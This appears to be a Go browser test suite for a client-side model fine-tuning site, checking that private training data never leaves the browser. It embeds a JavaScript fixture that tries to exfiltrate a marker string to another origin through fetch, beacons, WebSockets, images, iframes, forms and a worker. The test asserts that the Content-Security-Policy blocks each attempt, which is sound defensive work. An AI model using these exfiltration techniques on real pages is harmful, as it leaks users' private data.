package reliability

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/chromedp/chromedp"

	"prefixtune/tests/browser/apptest"
	"prefixtune/worker/site"
)

// marker is in every row of the dataset the privacy test trains on, and
// what exfil.js tries to send: no request may carry it.
const marker = "PTMARK7Q2XK9"

// markedData writes n rows of a sample dataset's split with the marker in
// every prompt and completion, and returns the file.
func markedData(t *testing.T, split string, n int) string {
	t.Helper()
	root := filepath.Join("..", "..", "public", "datasets", "wordnet-definitions")
	f, err := os.Open(filepath.Join(root, split+".jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var b strings.Builder
	sc := bufio.NewScanner(f)
	for i := 0; i < n && sc.Scan(); i++ {
		var row struct {
			Prompt     string `json:"prompt"`
			Completion string `json:"completion"`
		}
		if err := json.Unmarshal(sc.Bytes(), &row); err != nil {
			t.Fatal(err)
		}
		row.Prompt = marker + " " + row.Prompt
		row.Completion += " " + marker
		line, _ := json.Marshal(row)
		b.Write(line)
		b.WriteByte('\n')
	}
	path := filepath.Join(t.TempDir(), "private-"+split+".jsonl")
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// carries reports where a request carries the marker: its URL (decoded or
// not), a header, or its body.
func carries(u string, h map[string]string, body string) string {
	if dec, err := url.QueryUnescape(u); err == nil && strings.Contains(dec, marker) || strings.Contains(u, marker) {
		return "its URL"
	}
	for k, v := range h {
		if strings.Contains(k, marker) || strings.Contains(v, marker) {
			return "header " + k
		}
	}
	if strings.Contains(body, marker) {
		return "its body"
	}
	return ""
}

// TestNoDataInRequests runs the whole flow on a dataset whose every row
// holds the marker: load the model, the data, train, compare, generate,
// download the adapter. Every request the tab sends (DevTools Network,
// the page and its workers) and every request the server gets is
// recorded; none may carry the marker or a body.
func TestNoDataInRequests(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the site and runs Chromium")
	}
	srv := serve(t, web.Dir(t))
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	p := apptest.Open(t, ctx, srv.URL+"/", apptest.Options{FollowWorkers: true})
	p.LoadDemo()
	loaded := len(p.RequestsSent())

	p.Do("picking the data files", chromedp.SetUploadFiles(chromedp.CSS("#data-file"), []string{markedData(t, "train", 400)}),
		chromedp.SetUploadFiles(chromedp.CSS("#data-val-file"), []string{markedData(t, "validation", 16)}))
	apptest.Wait[bool](p, "the preview", `!!document.getElementById('data-preview')`, 30*time.Second)
	p.Click("#data-load")
	apptest.Wait[bool](p, "the data", `!!document.getElementById('data-stats') && !document.querySelector('.busy')`, time.Minute)
	p.Tune(map[string]string{"tune-steps": "20"})
	p.Click("#nav-train")
	p.Click("#train-button")
	apptest.Wait[bool](p, "the end of the run", apptest.Progress+`.startsWith('Done')`, time.Minute)
	p.Click("#nav-compare")
	p.Click("#compare-button")
	apptest.Wait[bool](p, "the comparison", `!!document.getElementById('compare-table') && !document.querySelector('.busy')`, time.Minute)
	p.Click("#nav-try")
	p.Set("try-prompt", marker+" word: water\ndefinition:")
	p.Click("#try-button")
	apptest.Wait[bool](p, "the generations", `document.getElementById('try-prefixed').textContent.length > 0 && !document.querySelector('.busy')`, time.Minute)
	p.Click("#nav-download")
	p.Click("#download-button")
	time.Sleep(500 * time.Millisecond)
	p.Screenshot("downloaded")

	sent := p.RequestsSent()
	kinds := map[string]int{}
	for _, ev := range sent {
		r := ev.Request
		h := map[string]string{}
		for k, v := range r.Headers {
			h[k] = fmt.Sprint(v)
		}
		body := ""
		for _, e := range r.PostDataEntries {
			body += string(e.Bytes)
		}
		if where := carries(r.URL, h, body); where != "" || r.HasPostData {
			t.Errorf("the tab sent %s %s carrying the data (%s, body %v)", r.Method, r.URL, where, r.HasPostData)
		}
		scheme, _, _ := strings.Cut(r.URL, ":")
		kinds[scheme+" "+string(ev.Type)]++
	}
	got := srv.Requests()
	recorded := map[string]bool{}
	for _, ev := range sent {
		recorded[strings.TrimPrefix(ev.Request.URL, srv.URL)] = true
	}
	for _, r := range got {
		if !recorded[r.URL] {
			t.Errorf("the server got %s %s, which DevTools did not report: the record is not complete", r.Method, r.URL)
		}
		h := map[string]string{}
		for k, v := range r.Header {
			h[k] = strings.Join(v, ", ")
		}
		if where := carries(r.URL, h, string(r.Body)); where != "" || len(r.Body) > 0 {
			t.Errorf("the server got %s %s carrying the data (%s, %d-byte body)", r.Method, r.URL, where, len(r.Body))
		}
	}
	after := sent[loaded:]
	var later []string
	for _, ev := range after {
		if !strings.HasPrefix(ev.Request.URL, "blob:") && !strings.HasPrefix(ev.Request.URL, "data:") {
			later = append(later, ev.Request.Method+" "+ev.Request.URL)
		}
	}
	if len(later) > 0 {
		t.Errorf("after the model had loaded, the tab requested %v", later)
	}
	if v := p.CSPViolations(); len(v) > 0 {
		t.Errorf("Content-Security-Policy violations: %v", v)
	}
	fromWorkers, followed := p.Workers()
	workers := len(followed)
	t.Logf("the tab sent %d requests (%s; %d of them from its %d workers), %d after the model had loaded (all local blob: or data: URLs); the server got %d; the marker %q is in none, and none has a body",
		len(sent), countLine(kinds), fromWorkers, workers, len(after), len(got), marker)
}

func countLine(m map[string]int) string {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var parts []string
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%d %s", m[k], k))
	}
	return strings.Join(parts, ", ")
}

// overlay serves top's files over base's.
type overlay struct {
	top  fstest.MapFS
	base fs.FS
}

func (o overlay) Open(name string) (fs.File, error) {
	if _, ok := o.top[name]; ok {
		return o.top.Open(name)
	}
	return o.base.Open(name)
}

// exfilPage tries every way a page can send data to another origin (the
// sink, given in the query): fetch, sendBeacon, EventSource, WebSocket, an
// image, an iframe, a form post, and fetch from a worker. It leaves what
// happened in window.exfil.
const exfilPage = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>exfiltration</title><script src="exfil.js"></script></head><body></body></html>`

const exfilScript = `'use strict';
(async () => {
	const sink = new URLSearchParams(location.search).get('sink');
	const secret = '` + marker + `';
	const out = { tried: [], page: {}, worker: null };
	const settle = (p, ms = 2000) => Promise.race([p, new Promise((r) => setTimeout(() => r('no answer'), ms))]);
	const attempt = async (name, fn) => {
		out.tried.push(name);
		try { out.page[name] = String(await settle(fn())); } catch (e) { out.page[name] = 'threw ' + e.name; }
	};
	await attempt('fetch', () => fetch(sink + '/fetch?d=' + secret, { method: 'POST', body: secret, mode: 'no-cors' }).then(() => 'sent'));
	await attempt('sendBeacon', async () => navigator.sendBeacon(sink + '/beacon?d=' + secret, secret) ? 'queued' : 'refused');
	await attempt('EventSource', () => new Promise((resolve) => {
		const es = new EventSource(sink + '/events?d=' + secret);
		es.onerror = () => { es.close(); resolve('error'); };
		es.onopen = () => resolve('open');
	}));
	await attempt('WebSocket', () => new Promise((resolve) => {
		const ws = new WebSocket(sink.replace(/^http/, 'ws') + '/ws?d=' + secret);
		ws.onerror = () => resolve('error');
		ws.onopen = () => { ws.send(secret); resolve('open'); };
	}));
	await attempt('image', () => new Promise((resolve) => {
		const img = new Image();
		img.onload = () => resolve('loaded');
		img.onerror = () => resolve('error');
		img.src = sink + '/img.gif?d=' + secret;
	}));
	await attempt('iframe', () => new Promise((resolve) => {
		const f = document.createElement('iframe');
		f.onload = () => resolve('loaded');
		f.src = sink + '/frame?d=' + secret;
		document.body.append(f);
	}));
	await attempt('form', () => new Promise((resolve) => {
		const f = document.createElement('form');
		f.method = 'POST';
		f.action = sink + '/form';
		f.target = 'formsink';
		const i = document.createElement('input');
		i.name = 'd';
		i.value = secret;
		const frame = document.createElement('iframe');
		frame.name = 'formsink';
		f.append(i);
		document.body.append(frame, f);
		f.submit();
		setTimeout(() => resolve('submitted'), 500);
	}));
	out.worker = await settle(new Promise((resolve) => {
		const w = new Worker('exfil-worker.js?sink=' + encodeURIComponent(sink));
		w.onmessage = (e) => resolve(e.data);
		w.onerror = (e) => resolve({ error: e.message });
	}), 5000);
	window.exfil = out;
})();`

const exfilWorker = `'use strict';
const sink = new URL(location.href).searchParams.get('sink');
const violations = [];
self.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI));
(async () => {
	let fetched;
	try { await fetch(sink + '/worker-fetch?d=` + marker + `', { method: 'POST', body: '` + marker + `', mode: 'no-cors' }); fetched = 'sent'; } catch (e) { fetched = 'threw ' + e.name; }
	await new Promise((r) => setTimeout(r, 200));
	self.postMessage({ fetch: fetched, violations });
})();`

// TestExfiltrationBlocked serves, with the site's headers, a page that
// tries to send the marker to another loopback origin in every way a page
// can: the site's Content-Security-Policy must stop each attempt before
// it leaves the browser (the other server receives nothing) and the
// browser must report the violations.
func TestExfiltrationBlocked(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the site and runs Chromium")
	}
	sink := apptest.Record(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cross-Origin-Resource-Policy", "cross-origin")
		w.WriteHeader(http.StatusNoContent)
	}))
	h, err := site.New(site.Config{Compress: true, HubOrigins: site.DefaultHubOrigins, Static: overlay{
		top: fstest.MapFS{
			"exfil.html":      {Data: []byte(exfilPage)},
			"exfil.js":        {Data: []byte(exfilScript)},
			"exfil-worker.js": {Data: []byte(exfilWorker)},
		},
		base: os.DirFS(web.Dir(t)),
	}})
	if err != nil {
		t.Fatal(err)
	}
	srv := apptest.Record(t, h)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	p := apptest.Open(t, ctx, srv.URL+"/exfil.html?sink="+url.QueryEscape(sink.URL), apptest.Options{FollowWorkers: true, NoWait: true})
	type result struct {
		Tried  []string          `json:"tried"`
		Page   map[string]string `json:"page"`
		Worker struct {
			Fetch      string   `json:"fetch"`
			Violations []string `json:"violations"`
		} `json:"worker"`
	}
	res := apptest.Wait[result](p, "the page's attempts", `window.exfil`, 40*time.Second)
	time.Sleep(500 * time.Millisecond) // a beacon goes out after the page asks for it
	violations := p.CSPViolations()

	if got := sink.Requests(); len(got) > 0 {
		for _, r := range got {
			t.Errorf("the other origin received %s %s (%d-byte body)", r.Method, r.URL, len(r.Body))
		}
	}
	for _, r := range srv.Requests() {
		if r.Method != "GET" || len(r.Body) > 0 {
			t.Errorf("the site received %s %s with a %d-byte body", r.Method, r.URL, len(r.Body))
		}
	}
	directives := map[string]int{}
	for _, v := range append(append([]string(nil), violations...), res.Worker.Violations...) {
		d, _, _ := strings.Cut(v, " ")
		directives[d]++
	}
	if len(violations) < len(res.Tried) {
		t.Errorf("the page saw %d violations for %d attempts: %v", len(violations), len(res.Tried), violations)
	}
	if len(res.Worker.Violations) == 0 || res.Worker.Fetch == "sent" {
		t.Errorf("the worker's fetch: %q, violations %v; want it refused and reported", res.Worker.Fetch, res.Worker.Violations)
	}
	seen := 0 // requests to the other origin DevTools reports (blocked before they left)
	for _, ev := range p.RequestsSent() {
		if strings.HasPrefix(ev.Request.URL, sink.URL) || strings.HasPrefix(ev.Request.URL, "ws"+strings.TrimPrefix(sink.URL, "http")) {
			seen++
		}
	}
	var outcomes []string
	for _, k := range res.Tried {
		outcomes = append(outcomes, k+": "+res.Page[k])
	}
	outcomes = append(outcomes, "worker fetch: "+res.Worker.Fetch)
	t.Logf("%d attempts from the page and 1 from a worker (%s); %d violations reported (%s); DevTools saw %d requests to the other origin start, which received %d",
		len(res.Tried), strings.Join(outcomes, ", "), len(violations)+len(res.Worker.Violations), countLine(directives), seen, len(sink.Requests()))
}
